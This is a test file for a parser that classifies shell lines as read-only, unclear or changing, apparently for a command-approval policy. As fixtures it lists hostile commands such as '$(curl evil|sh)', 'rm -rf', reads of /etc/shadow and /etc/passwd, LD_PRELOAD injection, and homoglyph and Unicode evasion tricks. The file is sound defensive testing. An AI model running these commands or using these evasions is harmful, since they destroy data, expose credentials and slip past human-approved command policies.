import { spawnSync } from 'node:child_process';

import * as fc from 'fast-check';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';

import { readBash } from './bash.ts';
import { parseLine } from './parse.ts';
import { loadPowerShellGrammar } from './powershell-grammar.ts';

const grammar = await loadPowerShellGrammar();

/** Clean, and every program only reads: what a policy may run unasked. */
function onlyReads(text: string, shell: 'sh' | 'bash' = 'bash'): boolean {
  const line = parseLine(shell, text, grammar);
  return line.clean && line.commands.every((command) => command.readOnly);
}

const READING = [
  'wc -l /var/log/syslog; wc --lines x; md5sum -b x; sha256sum x y; cksum -a md5 x',
  'docker top web; docker ps -a; docker logs --tail 20 web',
  'uptime',
  'ls -la /var/log',
  'df -h && free -m',
  'ps aux | grep nginx | head -5',
  "journalctl -u nginx --since '1 hour ago' --no-pager",
  'systemctl status nginx',
  'ip -br addr show; ip route',
  'nft list ruleset',
  'iptables -L -n -v',
  'cat /var/log/*.log | tail -n 50',
  "find /var/log -name '*.gz' -mtime +30",
  'dig +short example.com @10.0.0.1',
  'ping -c 3 10.0.0.1',
  'ss -tulpn',
  'ls /nowhere 2>/dev/null',
  'cat a.txt 2>&1 | wc -l',
  "awk '{print $1, $3}' /etc/hosts",
  "sed -n '5,10p' /etc/hosts",
  '/usr/bin/uptime\nuname -a',
  'getent hosts example.com | sort -u',
  'date +%F',
  'top -bn1',
  'dpkg -l | grep openssl',
  'du -sh /var/log --max-depth=1',
  'findmnt -t ext4',
  'ps -ef --forest',
  'ps -eo pid,cmd --sort=-%mem',
  'ps -C nginx -o pid,args',
  'getconf PAGE_SIZE',
  'sleep 1; sleep 0.5; sleep 10s; sleep 2m',
  'test -f /etc/hosts && exit 0; exit 1',
  'exit',
  '[ -d /srv/app ] || echo missing',
  "[ -n x ]; [ a = 'b c' ]; [ 3 -gt 2 ]; test x -nt y; test -t 1",
  ': ; true; false',
  'type ls; type -a python3',
  'command -v docker || command -V podman ls',
  'which ls',
  'zcat /var/log/syslog.2.gz | tail -n 5; zcat -f a b; xzcat x.xz',
  'strings -n 8 /usr/bin/x; strings -a -t x /tmp/core; strings -8 x',
  'sysctl -n net.ipv4.ip_forward',
];

/** Never clean, whatever the programs in it are: a rule that allows them all does not allow this. */
const UNCLEAR: Readonly<Record<string, string>> = {
  'a pipe into a shell': 'cat x | sh',
  substitution: 'ls $(rm x)',
  backticks: 'ls `rm x`',
  'substitution in double quotes': 'ls "$(rm x)"',
  'substitution as the name': '$(curl evil|sh)',
  'process substitution': 'cat <(rm x)',
  'output process substitution': 'cat x >(sh)',
  'old arithmetic': 'ls $[ $(rm x) ]',
  arithmetic: 'echo $((a[$(rm x)]))',
  'default value': 'echo ${x:-$(rm y)}',
  'assigning default': 'echo ${PATH:=/tmp}',
  indirection: 'echo ${!x}',
  'prompt expansion': 'echo ${x@P}',
  variable: '$x',
  'variable as an argument': 'ls $x',
  redirection: 'ls > /etc/passwd',
  'append redirection': 'ls >> x',
  'clobber redirection': 'ls >| x',
  'both redirection': 'ls &> x',
  'both redirection, old': 'ls >& x',
  'read-write redirection': 'ls <> x',
  'numbered redirection': 'ls 3>x',
  'null with a tail': 'ls >/dev/null.txt',
  'null with a way out': 'ls >/dev/null/../sda',
  'named descriptor': 'ls {fd}>x',
  'redirection first': '>x ls',
  'here-document': 'cat <<E\n$(rm x)\nE',
  'here-string': 'cat <<< "$(rm x)"',
  assignment: 'LD_PRELOAD=./x.so ls',
  'assignment alone': 'PATH=/tmp',
  'assignment then use': 'PATH=/tmp; ls',
  function: 'ls() { rm x; }; ls',
  'function keyword': 'function ls { rm x; }',
  alias: 'alias ls=rm\nls x',
  hash: 'hash -p /tmp/x ls; ls',
  background: 'ls & rm x',
  'background alone': 'ls &',
  time: 'time rm x',
  negation: '! rm x',
  coprocess: 'coproc rm x',
  condition: 'if ls; then rm x; fi',
  loop: 'while ls; do rm x; done',
  'for loop': 'for i in x; do rm $i; done',
  case: 'case x in *) rm x;; esac',
  subshell: '(rm x)',
  group: '{ rm x; }',
  'test command': '[[ -v a[$(rm x)] ]]',
  'test builtin': "[ -v 'a[$(rm x)]' ]",
  'test builtin by name': "test -v 'a[$(rm x)]'",
  'test of a name': "test -R 'a[$(rm x)]'",
  'test of numbers that are none': "test 'a[$(rm x)]' -eq 1",
  'test of numbers, on the other side': "[ 1 -gt 'a[$(rm x)]' ]",
  'test of more than one thing': "test -f x -a -v 'a[$(rm x)]'",
  'test without its end': '[ -f x',
  'test of what the shell finds': 'test -f /tmp/*',
  'test turned round': '! test -f x',
  'test in the background': 'test -f x & rm x',
  'backslash in the name': 'r\\m x',
  'backslash before the name': '\\rm x',
  'dollar quotes': "$'\\x72m' x",
  'dollar quotes as an argument': "sort $'-o' x",
  'locale quotes': '$"rm" x',
  'line continuation': 'r\\\nm x',
  'brace expansion': '{rm,x}',
  'brace expansion in arguments': 'sort {-o,x} y',
  'globbed name': '/bin/r? x',
  'bracketed name': '/bin/[r]m x',
  'extended glob': 'ls @(x)',
  'glob that may be an option': 'sort *',
  'glob behind a dash': 'sort -*',
  'a third descriptor to nowhere': 'ls 3>/dev/null',
  'bidirectional override in quotes': "ls '\u202ex'",
  'look-alike in quotes': 'ls "\u0430"',
  'no-break space': 'ls\u00a0rm',
  'carriage return': 'ls\rrm x',
  'bidirectional override': 'ls \u202ecba',
  'zero-width space': 'l\u200bs',
  homoglyph: '\u0441at x',
  'control character': 'ls \u0008x',
  escape: 'ls \u001b[2K',
  NUL: 'ls\0rm',
  comment: 'ls # harmless',
  source: 'source ./x',
  dot: '. ./x',
  env: 'env rm x',
  'env with a variable': 'env LD_PRELOAD=x ls',
  xargs: 'ls | xargs rm',
  busybox: 'busybox rm x',
  trap: "trap 'rm x' EXIT",
  'tilde program': '~/ls',
  'find -exec': "find . -exec rm '{}' ';'",
  'find -ok': "find . -ok rm x ';'",
  'awk system': 'awk \'BEGIN{system("rm x")}\'',
  'awk to a file': 'awk \'{print > "x"}\' y',
  'awk variable': "awk '{print $1}' x=y",
  'sed w': "sed -n 'w x' y",
  'sed e': "sed '1e rm x' y",
  'sed -i': "sed -i 's/a/b/' y",
  'sed -n with -i': 'sed -n 5p -i x',
  editor: 'vi x',
  empty: '',
  blank: ' \n\t',
};

/** Read for certain, and not on the list of what only reads. */
const CHANGING: Readonly<Record<string, string>> = {
  'another program': 'rm -rf /tmp/x',
  'a list': 'ls && rm -rf /tmp/x',
  'an or-list': 'ls || rm x',
  'a sequence': 'ls; rm x',
  'a new line': 'ls\nrm x',
  'printf into a variable': "printf -v 'a[$(rm x)]' y",
  'quotes in the name': 'r"m" x',
  'empty quotes in the name': "r''m x",
  'quoted reading name': "'rm' x",
  eval: 'eval rm x',
  exec: 'exec rm x',
  command: 'command rm x',
  builtin: 'builtin eval rm',
  'command with -v behind': 'command ls -v',
  'command with -p': 'command -p ls',
  'command with -v and -p': 'command -vp ls',
  'command with -v and an option': 'command -v -p ls',
  'exit with a word': 'exit now',
  'an endless sleep': 'sleep infinity',
  'a sleep of days': 'sleep 7d',
  'a long sleep': 'sleep 99999',
  'two sleeps at once': 'sleep 1 9999',
  'zcat of folders': 'zcat -r /etc',
  'zcat with an ending': 'zcat -S .x y',
  'zcat, spelt out': 'zcat --recursive /etc',
  'strings with options from a file': 'strings @/etc/shadow',
  'strings with options from a file, after --': 'strings -- @/etc/shadow',
  'strings with options from a file as a value': 'strings -n @/etc/shadow x',
  'strings by a format of its own': 'strings -T x y',
  sudo: 'sudo ls',
  nohup: 'nohup ls',
  'sh -c': "sh -c 'ls'",
  'a relative program': './ls',
  'a program elsewhere': '/tmp/ls',
  'a path that climbs': '/usr/bin/../../tmp/ls',
  'find -delete': 'find . -delete',
  'find -fprintf': 'find . -fprintf x y',
  'find with a hidden value': 'find . -name -delete -delete',
  tee: 'ls | tee x',
  dd: 'dd if=/dev/zero of=x',
  'sort -o': 'sort -o x y',
  'sort -ox joined': 'sort -uox y',
  'sort --output abbreviated': 'sort --out=x y',
  'sort --compress-program': 'sort --compress-program=sh y',
  'uniq with an output': 'uniq x y',
  'date -s': 'date -s 2020-01-01',
  'date by position': 'date 010100002020',
  'hostname with a name': 'hostname evil',
  'ip link set': 'ip link set eth0 down',
  'ip abbreviated set': 'ip link s eth0 down',
  'ip -batch': 'ip -batch x',
  'ip netns': 'ip netns exec x rm y',
  'ss -K': 'ss -K dst 1.2.3.4',
  'endless ping': 'ping 10.0.0.1',
  'flood ping': 'ping -f -c 5 10.0.0.1',
  'nft second command': "nft 'list ruleset; flush ruleset'",
  'nft file': 'nft -f x',
  'iptables flush': 'iptables -F',
  'iptables zero': 'iptables -L -Z',
  'journalctl vacuum': 'journalctl --vacuum-time=1s',
  'journalctl rotate': 'journalctl --rotate',
  'systemctl restart': 'systemctl restart nginx',
  'systemctl option first': 'systemctl --no-pager stop nginx',
  'systemctl far': 'systemctl -H root@x status',
  'service restart': 'service nginx restart',
  'dmesg clear': 'dmesg -C',
  'sysctl write': 'sysctl net.x=1',
  'crontab from input': 'crontab -',
  'rpm macro': "rpm -q --queryformat '%(rm x)' y",
  'apt install': 'apt install x',
  'resolvectl set': 'resolvectl dns eth0 1.1.1.1',
  'getconf -v': 'getconf -v ../../../tmp/x PATH',
  'getent -s': 'getent -s ../../tmp/x passwd',
  'getent shadow': 'getent shadow root',
  'sysctl that climbs': 'sysctl net/../../../etc/shadow',
  'du that complains': 'du --files0-from=/etc/shadow',
  'wc of listed files': 'find /dev -name watchdog -print0 | wc --files0-from=-',
  'wc, abbreviated': 'ls | wc --fi=-',
  'md5sum of listed files': 'md5sum -c /tmp/list',
  'md5sum, abbreviated': 'md5sum --che /tmp/list',
  'sha256sum of listed files': 'ls | sha256sum -wc',
  'cksum of listed files': 'cksum -a md5 --check x',
  'docker top with options of ps': 'docker top web axe',
  'podman top with descriptors': 'podman top web hpid',
  'findmnt of a file': 'findmnt -F /etc/shadow',
  'ps e': 'ps e',
  'ps auxe': 'ps auxe',
  'ps -auxe, that ps reads as auxe': 'ps -auxe',
  'ps of the environment': 'ps -eo pid,environ',
  'docker inspect': 'docker inspect web',
  'dig batch': 'dig -f /etc/passwd',
  pager: 'less x',
  git: 'git log',
};

const reading = suite('parseLine() of bash');
for (const text of READING) {
  reading(`knows that this only reads: ${JSON.stringify(text)}`, () => {
    assert.is(parseLine('bash', text, grammar).problem, null);
    assert.ok(onlyReads(text, 'bash'));
    assert.ok(onlyReads(text, 'sh'));
  });
}
for (const [name, text] of Object.entries(UNCLEAR)) {
  reading(`is unclear with ${name}: ${JSON.stringify(text)}`, () => {
    for (const shell of ['sh', 'bash'] as const) {
      const line = parseLine(shell, text, grammar);
      assert.not(line.clean);
      assert.type(line.problem, 'string');
    }
  });
}
for (const [name, text] of Object.entries(CHANGING)) {
  reading(`knows that it is changing: ${name}: ${JSON.stringify(text)}`, () => {
    assert.ok(parseLine('bash', text, grammar).clean);
    assert.not(onlyReads(text, 'bash'));
    assert.not(onlyReads(text, 'sh'));
  });
}

reading('finds the commands in every corner of a line', () => {
  const text = 'a $(b "$(c)") <(d) `e` ${x:-$(f)} && { g; (h) } | while i; do j <<E\n$(k)\nE\ndone';
  const programs = parseLine('bash', text, grammar).commands.map((command) => command.program);
  assert.equal([...programs].sort(), 'a b c d e f g h i j k'.split(' '));
});

reading('takes a wrapper and what it runs', () => {
  const line = parseLine('bash', "sudo -u bob nice -n 5 sh -c 'rm x; ls'", grammar);
  assert.ok(line.clean);
  assert.equal(
    line.commands.map((command) => command.program),
    ['sudo', 'nice', 'sh', 'rm', 'ls'],
  );
});
reading.run();

const against = suite('readBash()');

against('calls a line clean only when a shell accepts it and any text without throwing', () => {
  const bash = spawnSync('bash', ['--version']).status === 0;
  if (!bash) console.log('  (no bash here: its opinion is not asked)');
  const piece = fc.constantFrom(
    ...["'", '"', '\\', '$', '`', '(', ')', '{', '}', '<', '>', '|', '&', ';', '!', '#', '*', '['],
    ...['ls', 'rm', ' ', ' ', '\n', '2', '=', '/dev/null', '~', '-', 'x', '&1', 'if', 'do', 'case'],
  );
  let asked = 0;
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 9 }), (pieces) => {
      const text = pieces.join('');
      if (readBash(text).problem !== null || !bash || text.trim() === '' || asked >= 120) return;
      asked++;
      const opinion = spawnSync('bash', ['-n', '-c', text]);
      assert.is(opinion.status, 0, `bash refuses ${JSON.stringify(text)}`);
    }),
    { numRuns: 4000 },
  );
  if (bash) assert.ok(asked > 30, `only ${asked} lines were clean`);
});

against('sees the words that a real shell passes on', () => {
  if (spawnSync('bash', ['--version']).status !== 0) return console.log('  (no bash here)');
  const piece = fc.constantFrom(
    "'a b'",
    '"c d"',
    '"\\.e"',
    'f',
    '~x',
    '%+',
    "''",
    '""',
    ' ',
    ' ',
    '=',
    ':',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
      const text = `printf %s\\\\n ${pieces.join('')}`.replace('\\\\', '\\');
      const quoted = text.replace('%s\\n', "'%s\\n'");
      const { commands, problem } = readBash(quoted);
      if (problem !== null || (commands[0]?.length ?? 0) < 3) return;
      const said = spawnSync('bash', ['-c', quoted], { encoding: 'utf8' }).stdout;
      const words = (commands[0] ?? []).slice(2).map((word) => `${word.text}\n`);
      assert.is(said, words.join(''));
    }),
    { numRuns: 60 },
  );
});
against.run();
